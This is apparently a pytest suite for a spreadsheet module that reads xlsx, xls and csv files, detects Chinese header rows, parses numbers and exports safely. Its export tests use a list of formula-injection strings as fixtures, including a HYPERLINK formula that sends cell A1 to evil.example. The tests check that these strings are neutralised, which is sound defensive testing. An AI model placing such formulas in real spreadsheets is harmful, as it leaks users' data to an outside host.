"""core.spreadsheet: content-based reading of real xlsx/xls/csv files, headers, numbers, safe export.

Every fixture file is generated here (openpyxl, xlwt, LibreOffice when installed, raw bytes), so the
tests exercise the real parsers rather than hand-made DataFrames.
"""

from __future__ import annotations

import datetime as dt
import io
import shutil
import subprocess
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
import xlwt
from hypothesis import given
from hypothesis import strategies as st

from adapters import reader_worker as reader
from core import spreadsheet as sp
from core.spreadsheet import SpreadsheetError
from core.spreadsheet.cells import cell_text, floats_to_text

HEADER = ["统一社会信用代码", "企业名称", "研发投入（万元）", "营业收入（万元）"]
ROWS = [
    ["914403001922038216", "华为技术有限公司", "1,234.5", "１２３．４"],
    ["91440300708461136T", "腾讯", " 56 ", "1，234"],
    ["91110108551385082Q", "小米", "", "12.5%"],
]


def _xlsx_bytes(rows: list[list[object]]) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "数据"
    for row in rows:
        ws.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _csv_text(rows: list[list[str]]) -> str:
    return "\r\n".join(",".join(r) for r in rows) + "\r\n"


def _quoted_csv_text(rows: list[list[str]]) -> str:
    return "\r\n".join(",".join(f'"{c}"' for c in r) for r in rows) + "\r\n"


# --- reading by content ------------------------------------------------------------------------------


def test_xlsx_with_title_row_and_typed_cells(tmp_path: Path) -> None:
    rows = [
        ["2024年度研发投入统计表"],
        [],
        HEADER + ["成立日期", "高企"],
        ["914403001922038216", "华为", 1234.5, 100, dt.datetime(2020, 5, 1), True],
        ["91440300708461136T", "腾讯", 0.1 + 0.2, "1,000", dt.datetime(2021, 1, 2, 3, 4, 5), False],
    ]
    path = tmp_path / "dept.xlsx"
    path.write_bytes(_xlsx_bytes(rows))
    raw = reader.read_table(path.read_bytes(), path.name)
    assert raw.iloc[0, 0] == "2024年度研发投入统计表"
    assert raw.iloc[1].isna().all()  # the empty row is kept: raw row i is Excel row i + 1
    row = sp.find_header_row(raw, HEADER)
    assert row == 2
    table = sp.apply_header(raw, row)
    assert list(table.columns) == HEADER + ["成立日期", "高企", "__row__"]
    assert table["__row__"].tolist() == [4, 5]
    assert table["研发投入（万元）"].tolist() == ["1234.5", "0.3"]  # 15 significant digits, like Excel
    assert table["营业收入（万元）"].tolist() == ["100", "1,000"]
    assert table["成立日期"].tolist() == ["2020-05-01", "2021-01-02 03:04:05"]
    assert table["高企"].tolist() == ["TRUE", "FALSE"]
    assert table["统一社会信用代码"].tolist() == ["914403001922038216", "91440300708461136T"]


def test_xlsx_content_named_csv_is_read_as_xlsx() -> None:
    data = _xlsx_bytes([HEADER, ROWS[0]])
    assert sp.detect_format(data, "upload.csv") == "xlsx"
    assert reader.read_table(data, "upload.csv").iloc[1, 1] == "华为技术有限公司"


def test_xls_written_by_xlwt(tmp_path: Path) -> None:
    wb = xlwt.Workbook(encoding="utf-8")
    ws = wb.add_sheet("Sheet1")
    ws.write(0, 0, "标题：龙湾区企业数据")
    for c, h in enumerate(HEADER):
        ws.write(1, c, h)
    ws.write(2, 0, "914403001922038216")
    ws.write(2, 1, "华为")
    ws.write(2, 2, 1234.5)
    ws.write(2, 3, 42)
    path = tmp_path / "old.xls"
    wb.save(str(path))
    data = path.read_bytes()
    assert data[:8] == bytes.fromhex("D0CF11E0A1B11AE1")
    assert sp.detect_format(data) == "xls"
    raw = reader.read_table(data, path.name)
    table = sp.header_table(raw, HEADER)
    assert table.iloc[0][HEADER].tolist() == ["914403001922038216", "华为", "1234.5", "42"]
    assert table["__row__"].tolist() == [3]


def _soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.slow
@pytest.mark.xdist_group("libreoffice")
@pytest.mark.skipif(_soffice() is None, reason="LibreOffice (soffice) is not installed")
def test_xls_written_by_libreoffice(tmp_path: Path) -> None:
    src = tmp_path / "src.csv"
    src.write_text(_csv_text([HEADER, ["914403001922038216", "华为", "1234.5", "7"]]), encoding="utf-8")
    profile = (tmp_path / "lo-profile").as_uri()  # private profile: parallel runs do not share a lock
    cmd = [
        _soffice(),
        f"-env:UserInstallation={profile}",
        "--headless",
        "--infilter=CSV:44,34,76,1,1/2",  # column 1 imported as text, the others as numbers
        "--convert-to",
        "xls",
        "--outdir",
        str(tmp_path),
        str(src),
    ]
    try:
        subprocess.run(cmd, check=True, capture_output=True, timeout=180)
    except (subprocess.SubprocessError, OSError) as exc:
        pytest.skip(f"LibreOffice conversion failed here: {exc}")
    data = (tmp_path / "src.xls").read_bytes()
    assert sp.detect_format(data, "src.xls") == "xls"
    raw = reader.read_table(data, "src.xls")
    table = sp.header_table(raw, HEADER)
    assert table.iloc[0][HEADER].tolist() == ["914403001922038216", "华为", "1234.5", "7"]


def test_credit_code_saved_as_number_reads_as_scientific_text() -> None:
    # What Excel/LibreOffice do to an 18-digit code in a General column: the digits are lost, and the
    # raw text says so; core.credit_code.explain names the cause.
    raw = reader.read_table(_xlsx_bytes([["统一社会信用代码"], [914403001922038216]]), "x.xlsx")
    assert raw.iloc[1, 0] == "9.14403001922038e+17"


def test_gbk_csv_with_chinese_headers() -> None:
    data = _csv_text([HEADER, *ROWS]).encode("gbk")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    raw = reader.read_table(data, "部门数据.csv")
    table = sp.header_table(raw, HEADER)
    assert list(table.columns[:4]) == HEADER
    assert table["企业名称"].tolist() == ["华为技术有限公司", "腾讯", "小米"]
    assert table["__row__"].tolist() == [2, 3, 4]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-8", "utf-16"])
def test_utf_csv_variants(encoding: str) -> None:
    data = _quoted_csv_text([HEADER, *ROWS]).encode(encoding)
    raw = reader.read_table(data, "x.csv")
    assert raw.iloc[0].tolist() == HEADER  # no BOM left in the first header cell
    assert raw.iloc[2, 2] == " 56 "  # raw: not stripped here


def test_csv_with_title_row_quoted_newline_and_semicolons() -> None:
    text = '2024年数据;;\r\n统一社会信用代码;企业名称;备注\r\n914403001922038216;华为;"两行\r\n备注"\r\n'
    raw = reader.read_table(text.encode("utf-8-sig"), "x.csv")
    table = sp.apply_header(raw, sp.find_header_row(raw, ["统一社会信用代码", "企业名称"]))
    assert table["备注"].tolist() == ["两行\r\n备注"]
    assert table["__row__"].tolist() == [3]


def test_semicolon_csv_with_more_thousands_commas_than_semicolons() -> None:
    # LibreOffice saves cells as shown: with ";" chosen as separator, 1,234,567.25 puts more commas
    # than semicolons on every data line — but none on the header, so ";" is the consistent one.
    head = "统一社会信用代码;企业名称;营业收入;利润总额;实缴税收"
    line = "914403001922038216;华为;1,234,567.25;2,345,678.50;1,000,001.00"
    raw = reader.read_table("\r\n".join([head] + [line] * 30).encode("gb18030"), "x.csv")
    assert raw.shape == (31, 5)
    assert raw.iloc[30].tolist() == line.split(";")
    # the same numbers in a comma csv (quoted, as Excel and LibreOffice write them) stay one cell each
    text = "\r\n".join(
        [head.replace(";", ",")] + ['914403001922038216,华为,"1,234,567.25",2.5,"1,000,001.00"'] * 30
    )
    assert reader.read_table(text.encode("utf-8"), "x.csv").iloc[30].tolist() == [
        "914403001922038216",
        "华为",
        "1,234,567.25",
        "2.5",
        "1,000,001.00",
    ]


def test_header_only_file_gives_empty_table_with_columns() -> None:
    raw = reader.read_table(_csv_text([HEADER]).encode("utf-8-sig"), "x.csv")
    table = sp.header_table(raw, HEADER)
    assert table.empty
    assert list(table.columns) == HEADER + ["__row__"]


def test_pdf_renamed_xlsx_is_rejected_by_content(tmp_path: Path) -> None:
    path = tmp_path / "data.xlsx"
    path.write_bytes(b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n")
    with pytest.raises(SpreadsheetError, match="PDF") as info:
        reader.read_table(path.read_bytes(), path.name)
    assert "“data.xlsx”" in str(info.value) and "不是表格文件" in str(info.value)


@pytest.mark.parametrize(
    ("data", "fragment"),
    [
        (b"", "空文件"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "PNG"),
        (b"<html><body><table><tr><td>1</td></tr></table></body></html>", "网页"),
        (b"\x00\x01\x02binary", "不是可识别的表格文件"),
        (b"a,b\r\n\x80\xff\xfe\r\n", "编码"),
        (b"\xef\xbb\xbf  \r\n", "没有任何数据"),
        (b"PK\x03\x04broken zip", "损坏"),
    ],
)
def test_rejected_contents(data: bytes, fragment: str) -> None:
    with pytest.raises(SpreadsheetError, match=fragment):
        reader.read_table(data, "upload.xls")


def test_docx_and_plain_zip_are_rejected() -> None:
    for inner, fragment in (("word/document.xml", "Word"), ("readme.txt", "zip 压缩包")):
        buffer = io.BytesIO()
        with __import__("zipfile").ZipFile(buffer, "w") as zf:
            zf.writestr(inner, "x")
        with pytest.raises(SpreadsheetError, match=fragment):
            reader.read_table(buffer.getvalue(), "a.xlsx")


def test_size_limit() -> None:
    data = _csv_text([HEADER, *ROWS]).encode("utf-8")
    with pytest.raises(SpreadsheetError, match=r"过大.*上限为"):
        reader.read_table(data, "big.csv", max_bytes=100)
    assert not reader.read_table(data, "ok.csv", max_bytes=len(data)).empty


def test_empty_sheet_is_rejected() -> None:
    with pytest.raises(SpreadsheetError, match="没有任何数据"):
        reader.read_table(_xlsx_bytes([]), "empty.xlsx")


def test_sheet_selection() -> None:
    blob = sp.write_xlsx({"数据": pd.DataFrame({"a": ["x"]}), "填写说明": ["第一行说明"]})
    assert sp.list_sheets(blob) == ["数据", "填写说明"]
    assert reader.read_table(blob, "t.xlsx", sheet="填写说明").iloc[0, 0] == "第一行说明"
    with pytest.raises(SpreadsheetError, match="找不到工作表"):
        reader.read_table(blob, "t.xlsx", sheet="不存在")


# --- header detection ----------------------------------------------------------------------------------


def test_find_header_row_normalises_and_prefers_best_overlap() -> None:
    raw = pd.DataFrame(
        [
            ["企业名称及研发投入情况表", None, None],
            ["填报单位：区科技局", None, None],
            ["* 统一社会信用代码", "企业名称（全称）", "研发投入(万元)"],
            ["914403001922038216", "华为", "1"],
        ],
        dtype="str",
    )
    assert sp.find_header_row(raw, HEADER) == 2


def test_find_header_row_missing_raises() -> None:
    raw = pd.DataFrame([["a", "b"], ["1", "2"]], dtype="str")
    with pytest.raises(SpreadsheetError, match="未找到表头"):
        sp.find_header_row(raw, HEADER)


def test_apply_header_drops_blank_rows_and_columns_and_names_unnamed() -> None:
    raw = pd.DataFrame(
        [
            [" 企业名称\u00a0", None, "金额", "金额", None],
            ["甲", None, "1", "2", "备注甲"],
            [" ", None, None, "\u3000", None],
            ["乙", None, "3", "4", None],
        ],
        dtype="str",
    )
    table = sp.apply_header(raw, 0)
    assert list(table.columns) == ["企业名称", "金额", "金额.1", "列E", "__row__"]
    assert table["企业名称"].tolist() == ["甲", "乙"]
    assert table["__row__"].tolist() == [2, 4]


def _merged_header_xlsx(top: list[object], below: list[object], merges: list[str]) -> bytes:
    """A table whose header is drawn over two rows with merged cells (the text of a merged cell sits in
    its top-left cell; the others read empty), under a title merged across."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["2024年度企业研发投入情况表"])
    ws.append(top)
    ws.append(below)
    for row in ROWS[:2]:
        ws.append(row)
    for ref in ["A1:D1", *merges]:
        ws.merge_cells(ref)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("top", "below", "merges"),
    [
        (  # code and name merged down, "财务数据" merged across the amounts named in the row below
            ["统一社会信用代码", "企业名称", "财务数据", None],
            [None, None, "研发投入（万元）", "营业收入（万元）"],
            ["A2:A3", "B2:B3", "C2:D2"],
        ),
        (  # the amounts' group merged across, one amount merged down beside it
            ["统一社会信用代码", "企业名称", "研发投入（万元）", "其他指标"],
            [None, None, None, "营业收入（万元）"],
            ["A2:A3", "B2:B3", "C2:C3"],
        ),
    ],
    ids=["names-below", "names-above"],
)
def test_header_drawn_over_two_rows_with_merged_cells_is_joined(
    top: list[object], below: list[object], merges: list[str]
) -> None:
    raw = reader.read_table(_merged_header_xlsx(top, below, merges), "两行表头.xlsx")
    table = sp.header_table(raw, HEADER)
    assert list(table.columns) == [*HEADER, "__row__"]
    assert table["研发投入（万元）"].tolist() == ["1,234.5", " 56 "]
    assert table["__row__"].tolist() == [4, 5]  # the rows the officer sees in Excel


def test_a_title_or_a_units_row_is_never_joined_to_the_header() -> None:
    raw = pd.DataFrame(
        [
            ["统一社会信用代码及企业名称一览", None, None, None],  # a title naming headers, one cell
            [None, "统一社会信用代码", "企业名称", "研发投入（万元）"],
            ["序号", None, None, "万元"],  # a units row under the header
            ["1", "914403001922038216", "华为", "12"],
        ],
        dtype="str",
    )
    table = sp.header_table(raw, HEADER)
    assert list(table.columns) == ["列A", "统一社会信用代码", "企业名称", "研发投入（万元）", "__row__"]
    assert table["__row__"].tolist() == [3, 4]


# --- numbers -------------------------------------------------------------------------------------------


def test_parse_number_series_tolerant_cases() -> None:
    cells = {
        "1,234.5": 1234.5,
        "1，234": 1234.0,
        "１２３．４": 123.4,
        "－５": -5.0,
        " 42 ": 42.0,
        "\u00a07\u00a0": 7.0,
        "\u3000８\u3000": 8.0,
        "12.5%": 12.5,
        "4.5％": 4.5,
        "1.5E+3": 1500.0,
        "+3": 3.0,
        ".5": 0.5,
        "-0.25": -0.25,
        "1,234,567": 1234567.0,
    }
    values, invalid = sp.parse_number_series(pd.Series(list(cells), dtype="str"))
    assert values.tolist() == list(cells.values())
    assert not invalid.any()


def test_accountants_negatives_spaced_percent_and_money_signs_read_exactly() -> None:
    cells = ["(1,234)", "（1,234.50）", "( 12 )", "38.1 %", "¥1,234.00", "￥ 1,234", "-¥8", "(¥1,234)"]
    values, invalid = sp.parse_number_series(pd.Series(cells, dtype="str"), currency=True)
    assert values.tolist() == [-1234.0, -1234.5, -12.0, 38.1, 1234.0, 1234.0, -8.0, -1234.0]
    assert not invalid.any()
    # Not money: a ¥ is no part of a number; nor are nested or signed parentheses.
    values, invalid = sp.parse_number_series(pd.Series(["¥1,234", "(-12)", "((12))", "(12"], dtype="str"))
    assert values.isna().all() and invalid.all()


def test_invisible_characters_copied_with_numbers_and_headers_are_ignored() -> None:
    # Copied from a web page or a chat: zero-width spaces and joiners, direction marks, a word joiner,
    # a soft hyphen. Refused, the cell looked like a plain "1234".
    cells = ["1234\u200d", "1,234.5\u2060", "\u00ad12", "\u202d8,000\u202c", "\u200e45%"]
    values, invalid = sp.parse_number_series(pd.Series(cells, dtype="str"))
    assert values.tolist() == [1234.0, 1234.5, 12.0, 8000.0, 45.0] and not invalid.any()
    assert sp.header_key("研发投入\u200b（万元）\u200c") == sp.header_key("研发投入（万元）")
    raw = pd.DataFrame([["统一社会信用代码\u200b", "\ufeff研发投入（万元）"], ["x", "1"]], dtype="str")
    assert list(sp.apply_header(raw, 0).columns) == ["统一社会信用代码", "研发投入（万元）", "__row__"]


def test_parse_number_series_empty_and_invalid() -> None:
    s = pd.Series(["", "  ", None, "abc", "1,2", "12,34.5", "-", "无", "1 234", "inf", "nan", "1e999", "3万"])
    values, invalid = sp.parse_number_series(s)
    assert values.isna().all()
    assert invalid.tolist() == [False, False, False] + [True] * 10


def test_parse_number_series_numeric_and_object_input() -> None:
    values, invalid = sp.parse_number_series(pd.Series([1, 2.5, None], dtype="Float64"))
    assert values.tolist()[:2] == [1.0, 2.5] and np.isnan(values.iloc[2]) and not invalid.any()
    values, invalid = sp.parse_number_series(
        pd.Series([3, "4", "x", None], dtype=object, index=[7, 8, 9, 10])
    )
    assert list(values.index) == [7, 8, 9, 10]
    assert values.tolist()[:2] == [3.0, 4.0]
    assert invalid.tolist() == [False, False, True, False]


@given(st.floats(allow_nan=False, allow_infinity=False, min_value=-1e14, max_value=1e14))
def test_parsed_text_numbers_round_trip(x: float) -> None:
    text = cell_text(x)
    values, invalid = sp.parse_number_series(pd.Series([text], dtype="str"))
    assert not invalid.iloc[0]
    assert values.iloc[0] == pytest.approx(x, rel=1e-14, abs=1e-300)


@given(st.lists(st.floats(allow_nan=True, allow_infinity=True), max_size=40))
def test_vectorised_float_rendering_matches_scalar(xs: list[float]) -> None:
    assert floats_to_text(np.array(xs, dtype=np.float64)).tolist() == [cell_text(x) for x in xs]


# --- sanitising and writing ------------------------------------------------------------------------------

DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-1+2", "@SUM(A1:A3)", "\tx", "=1+1"]


def test_sanitize_cell() -> None:
    assert sp.sanitize_cell("=1+1") == "'=1+1"
    assert sp.sanitize_cell("+1+1") == "'+1+1"
    assert sp.sanitize_cell("@x") == "'@x"
    assert sp.sanitize_cell("\rx") == "'\rx"
    # a number written as text would become a number in Excel (a name "+3" loses its sign): prefixed too
    assert sp.sanitize_cell("-12.5") == "'-12.5"
    assert sp.sanitize_cell("+3") == "'+3"
    assert sp.sanitize_cell("华为") == "华为"
    assert sp.sanitize_cell(-5) == -5
    assert sp.sanitize_cell(None) is None


def test_sanitize_frame_leaves_numeric_columns_and_input_alone() -> None:
    df = pd.DataFrame(
        {"name": DANGEROUS, "value": [-1.0, -2, 3, 4, 5, 6], "obj": [None, "=x", 1, "-3", "a", "b"]}
    )
    out = sp.sanitize_frame(df)
    assert out["name"].tolist() == ["'" + v for v in DANGEROUS]
    assert out["value"].tolist() == df["value"].tolist()
    assert out["obj"].tolist() == [None, "'=x", 1, "'-3", "a", "b"]
    assert df["name"].tolist() == DANGEROUS  # the input is not modified


def test_csv_export_prefixes_apostrophe_and_has_bom(tmp_path: Path) -> None:
    df = pd.DataFrame({"企业名称": DANGEROUS, "得分": [-1.5, 2, 3, 4, 5, 6]})
    data = sp.write_csv(df)
    assert data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert back["企业名称"].tolist() == ["'" + v for v in DANGEROUS]
    assert back["得分"].tolist()[0] == "-1.5"
    path = tmp_path / "out.csv"
    sp.write_table(df, path)
    assert path.read_bytes() == data


def test_xlsx_export_keeps_formula_like_text_as_string_cells(tmp_path: Path) -> None:
    df = pd.DataFrame({"企业名称": DANGEROUS + ["http://example.com", "华为"], "得分": range(8)})
    path = tmp_path / "out.xlsx"
    sp.write_table(df, path)
    ws = openpyxl.load_workbook(path).active
    names = [ws.cell(row=r, column=1) for r in range(2, 10)]
    assert [c.data_type for c in names] == ["s"] * 8
    assert [c.value for c in names] == DANGEROUS + ["http://example.com", "华为"]
    assert all(c.hyperlink is None for c in names)
    assert ws.cell(row=2, column=2).data_type == "n"
    # Reading our own export gives the same text back.
    raw = reader.read_table(path.read_bytes(), path.name)
    assert raw.iloc[1:, 0].tolist() == DANGEROUS + ["http://example.com", "华为"]


def test_write_xlsx_layout_header_rows_and_instructions() -> None:
    scores = pd.DataFrame(
        {
            "credit_code": ["914403001922038216", "91440300708461136T"],
            "total": [88.5, np.nan],
            "rank": pd.array([1, None], dtype="Int64"),
            "veto": [False, True],
            "published": pd.to_datetime(["2025-01-02", None]),
        }
    )
    blob = sp.write_xlsx(
        {"结果": scores, "填写说明": ["1. 每行一家企业", "2. =不是公式"]},
        header_rows={"结果": [["统一社会信用代码", "总分", "排名", "否决", "发布日期"]]},
    )
    wb = openpyxl.load_workbook(io.BytesIO(blob))
    assert wb.sheetnames == ["结果", "填写说明"]
    ws = wb["结果"]
    assert ws.freeze_panes == "A3"
    assert [c.value for c in ws[1]] == ["统一社会信用代码", "总分", "排名", "否决", "发布日期"]
    assert [c.value for c in ws[2]] == list(scores.columns)
    assert ws["A1"].font.b and ws["A2"].font.b
    assert [c.value for c in ws[3]] == ["914403001922038216", 88.5, 1, False, dt.datetime(2025, 1, 2)]
    assert [c.value for c in ws[4]][1:4] == [None, None, True]
    assert ws.column_dimensions["A"].width >= 18
    notes = wb["填写说明"]
    assert notes["B1"].value is None and notes["A2"].value == "2. =不是公式" and notes["A2"].data_type == "s"


def test_sheet_names_are_made_valid() -> None:
    blob = sp.write_xlsx({"a/b:c" * 10: pd.DataFrame({"x": [1]}), "A/B:C" * 10: pd.DataFrame({"x": [2]})})
    names = openpyxl.load_workbook(io.BytesIO(blob)).sheetnames
    assert len(names) == 2 and all(len(n) <= 31 and "/" not in n for n in names)


def test_write_table_rejects_unknown_extension(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="仅支持"):
        sp.write_table(pd.DataFrame({"a": [1]}), tmp_path / "x.json")


def test_xlsx_round_trip_of_numbers_and_text() -> None:
    df = pd.DataFrame({"code": ["007", "1e5"], "v": [0.1 + 0.2, 12345678.25], "n": ["", None]})
    raw = reader.read_table(sp.write_xlsx({"s": df}), "r.xlsx")
    table = sp.apply_header(raw, 0)
    assert table["code"].tolist() == ["007", "1e5"]  # text stays text (no number inference)
    assert table["v"].tolist() == ["0.3", "12345678.25"]
    assert table["n"].isna().all()
